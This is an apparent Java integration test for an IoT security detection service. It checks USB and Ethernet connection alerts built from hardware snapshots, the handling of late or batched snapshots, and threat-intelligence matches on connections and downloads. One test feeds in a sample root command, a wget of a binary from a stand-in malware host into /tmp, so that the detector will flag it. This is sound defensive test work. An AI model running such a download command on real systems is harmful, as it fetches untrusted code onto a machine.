package io.vigil.detection.hardware;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.vigil.contracts.feed.EventFeed;
import io.vigil.contracts.feed.FeedBatch;
import io.vigil.contracts.feed.FeedEvent;
import io.vigil.contracts.feed.FeedMessage;
import io.vigil.testing.TestDatabase;
import io.vigil.testing.TestHub;
import io.vigil.testing.TestMqttClient;
import io.vigil.testing.VigilTestResource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Over the real broker and PostgreSQL: ConnectedHardware snapshots in, USB and Ethernet connection alerts out; and
 * the threat-intelligence lists of the test profile ({@code src/test/resources/threatintel/}) on connections and
 * downloads.
 */
@QuarkusTest
@QuarkusTestResource(VigilTestResource.class)
class HardwareSnapshotsTest {

    private static final String HUB = TestHub.RESOURCE_ID;
    private static final ObjectMapper JSON = TestHub.JSON;
    private static final Duration PATIENCE = Duration.ofSeconds(20);
    private static final String[] KEYBOARD = {"Input", "Keyboard", "PS/2 Keyboard"};
    private static final String[] STICK = {"USB", "Mass Storage", "SanDisk Cruzer Blade"};
    private static final String[] NIC = {"Network", "Ethernet", "eth1"};
    private static TestMqttClient ingest;

    @BeforeAll
    static void connect() {
        ingest = TestMqttClient.connect();
    }

    @AfterAll
    static void disconnect() {
        ingest.close();
    }

    @Test
    void theFirstSnapshotIsTheBaselineThenPluggingAndUnpluggingRaiseTheirAlerts() {
        Instant start = Instant.now().minusSeconds(600);
        FeedEvent baseline = hardware(start, KEYBOARD, STICK);
        publish("hw-1", baseline);
        awaitHandled("hw-1", baseline);
        assertThat(types("hw-1")).containsExactly("IoT_DeviceOnboarded");
        assertThat(TestDatabase.count("SELECT count(*) FROM detection.device_hardware WHERE device_id = 'hw-1'")).isEqualTo(1);

        publish("hw-1", hardware(start.plusSeconds(60), KEYBOARD, STICK, NIC));
        awaitAlert("hw-1", "IoT_EthernetConnection");
        publish("hw-1", hardware(start.plusSeconds(120), KEYBOARD, NIC));
        awaitAlert("hw-1", "IoT_UsbDisconnection");
        publish("hw-1", hardware(start.plusSeconds(180), KEYBOARD));
        awaitAlert("hw-1", "IoT_EthernetDisconnection");
        publish("hw-1", hardware(start.plusSeconds(240), KEYBOARD, STICK));
        awaitAlert("hw-1", "IoT_USBConnection");
        assertThat(types("hw-1")).containsExactlyInAnyOrder("IoT_DeviceOnboarded", "IoT_EthernetConnection",
                "IoT_UsbDisconnection", "IoT_EthernetDisconnection", "IoT_USBConnection");

        Map<String, Object> alert = TestDatabase.query("SELECT alert_severity, display_name, extended_properties, entities"
                + " FROM workspace.security_alert WHERE device_id = 'hw-1' AND alert_type = 'IoT_USBConnection'").get(0);
        assertThat(alert.get("alert_severity")).isEqualTo("High");
        assertThat(alert.get("display_name")).isEqualTo("New USB Connection");
        assertThat((String) alert.get("extended_properties")).contains("\"Hardware Name\":\"SanDisk Cruzer Blade\"")
                .contains("\"Hardware Category\":\"USB\"").contains("\"DeviceId\":\"hw-1\"");
        assertThat((String) alert.get("entities")).contains("\"HostName\":\"hw-1\"");
    }

    @Test
    void anOlderSnapshotArrivingLateChangesNothing() {
        Instant start = Instant.now().minusSeconds(600);
        // Two lanes could take two messages in either order; the baseline must be in before the change.
        FeedEvent baseline = hardware(start, KEYBOARD);
        publish("hw-late", baseline);
        awaitHandled("hw-late", baseline);
        publish("hw-late", hardware(start.plusSeconds(120), KEYBOARD, STICK));
        awaitAlert("hw-late", "IoT_USBConnection");
        // A snapshot from between the two, without the stick, comes last: it is older than the stored one.
        FeedEvent late = hardware(start.plusSeconds(60), KEYBOARD);
        publish("hw-late", late);
        awaitHandled("hw-late", late);
        assertThat(types("hw-late")).containsExactlyInAnyOrder("IoT_DeviceOnboarded", "IoT_USBConnection");
        // The stored snapshot is still the newest, so the stick counts as present: the next snapshot with it is quiet.
        FeedEvent same = hardware(start.plusSeconds(180), KEYBOARD, STICK);
        publish("hw-late", same);
        awaitHandled("hw-late", same);
        assertThat(types("hw-late")).containsExactlyInAnyOrder("IoT_DeviceOnboarded", "IoT_USBConnection");
        // PostgreSQL keeps microseconds; the clock may give nanoseconds.
        assertThat(TestDatabase.count("SELECT count(*) FROM detection.device_hardware WHERE device_id = 'hw-late'"
                + " AND snapshot_at BETWEEN ? AND ?", utc(start.plusSeconds(179)), utc(start.plusSeconds(181)))).isEqualTo(1);
    }

    @Test
    void snapshotsInOneMessageAreComparedInTimeOrder() {
        Instant start = Instant.now().minusSeconds(600);
        // The plugged-in snapshot is written first but taken later: baseline, then connection, nothing else.
        publish("hw-batch", hardware(start.plusSeconds(30), KEYBOARD, STICK), hardware(start, KEYBOARD));
        awaitAlert("hw-batch", "IoT_USBConnection");
        assertThat(types("hw-batch")).containsExactlyInAnyOrder("IoT_DeviceOnboarded", "IoT_USBConnection");
    }

    @Test
    void hardwareThatIsNeitherUsbNorEthernetRaisesNothing() {
        Instant start = Instant.now().minusSeconds(600);
        publish("hw-other", hardware(start, KEYBOARD));
        FeedEvent more = hardware(start.plusSeconds(60), KEYBOARD, new String[] {"Display", "Adapter", "Intel(R) HD Graphics 5500"});
        publish("hw-other", more);
        awaitHandled("hw-other", more);
        assertThat(types("hw-other")).containsExactly("IoT_DeviceOnboarded");
    }

    @Test
    void aConnectionWithAListedAddressIsATiConnection() {
        ObjectNode item = JSON.createObjectNode().put("RemoteAddress", "198.19.7.7").put("RemotePort", "443")
                .put("LocalAddress", "10.0.0.8").put("LocalPort", "50123").put("Protocol", "TCP").put("Direction", "Out")
                .put("ProcessId", 321).put("Executable", "/usr/bin/python3").put("CommandLine", "python3 agent.py");
        FeedEvent quiet = event("ConnectionCreate", "Triggered", Instant.now().minusSeconds(20), List.of(item.deepCopy()
                .put("RemoteAddress", "198.20.0.1")));
        publish("ti-1", event("ConnectionCreate", "Triggered", Instant.now().minusSeconds(10), List.of(item)), quiet);
        awaitAlert("ti-1", "IoT_TiConnection");
        assertThat(types("ti-1")).containsExactlyInAnyOrder("IoT_DeviceOnboarded", "IoT_TiConnection");
        assertThat(TestDatabase.count("SELECT hit_count FROM detection.alert_state WHERE device_id = 'ti-1'"
                + " AND alert_type = 'IoT_TiConnection'")).isEqualTo(1);
        assertThat((String) TestDatabase.query("SELECT extended_properties FROM workspace.security_alert WHERE device_id = 'ti-1'"
                + " AND alert_type = 'IoT_TiConnection'").get(0).get("extended_properties"))
                .contains("\"Remote Address\":\"198.19.7.7\"").contains("\"Matched Entry\":\"198.18.0.0/15\"")
                .contains("\"Local Address\":\"10.0.0.8\"").contains("\"DeviceId\":\"ti-1\"");
    }

    @Test
    void aDownloadFromAListedSourceIsPossibleMalware() {
        ObjectNode item = JSON.createObjectNode().put("Executable", "/usr/bin/wget")
                .put("CommandLine", "wget -q http://cdn.malware.test/bins/x86 -O /tmp/x86").put("ProcessId", 4000)
                .put("ParentProcessId", 1).put("UserId", "0").put("UserName", "root");
        publish("pm-1", event("ProcessCreate", "Triggered", Instant.now().minusSeconds(10), List.of(item)));
        awaitAlert("pm-1", "IoT_PossibleMalware");
        assertThat(types("pm-1")).containsExactlyInAnyOrder("IoT_DeviceOnboarded", "IoT_PossibleMalware");
        assertThat((String) TestDatabase.query("SELECT extended_properties FROM workspace.security_alert WHERE device_id = 'pm-1'"
                + " AND alert_type = 'IoT_PossibleMalware'").get(0).get("extended_properties"))
                .contains("\"URL\":\"http://cdn.malware.test/bins/x86\"").contains("\"Matched Entry\":\"malware.test\"");
    }

    private static java.time.OffsetDateTime utc(Instant at) {
        return at.atOffset(java.time.ZoneOffset.UTC);
    }

    private static List<String> types(String device) {
        return TestDatabase.query("SELECT DISTINCT alert_type FROM workspace.security_alert WHERE device_id = ?", device)
                .stream().map(row -> (String) row.get("alert_type")).toList();
    }

    private static void awaitAlert(String device, String type) {
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM workspace.security_alert"
                + " WHERE device_id = ? AND alert_type = ?", device, type) > 0);
    }

    /** The event's batch committed, alerts and all (they share its transaction). */
    private static void awaitHandled(String device, FeedEvent event) {
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM detection.handled_event"
                + " WHERE key = md5(? || E'\\n' || ? || E'\\n' || ?)::uuid", TestHub.RESOURCE_ID, device, event.id()) > 0);
    }

    private static FeedEvent hardware(Instant at, String[]... items) {
        List<ObjectNode> payload = new ArrayList<>();
        for (String[] item : items) {
            payload.add(JSON.createObjectNode().put("HardwareCategory", item[0]).put("HardwareSubCategory", item[1])
                    .put("HardwareName", item[2]));
        }
        return event("ConnectedHardware", "Periodic", at, payload);
    }

    private static FeedEvent event(String name, String category, Instant at, List<ObjectNode> items) {
        return new FeedEvent(UUID.randomUUID().toString(), name, category, "Security", items.isEmpty(), at, at.toString(), items);
    }

    private static void publish(String device, FeedEvent... events) {
        FeedMessage message = new FeedMessage(HUB, device, null, "agent", "1.0", Instant.now(),
                List.of(events));
        try {
            ingest.publish(EventFeed.topic("vigil-hub"), JSON.writeValueAsBytes(FeedBatch.of(message)));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
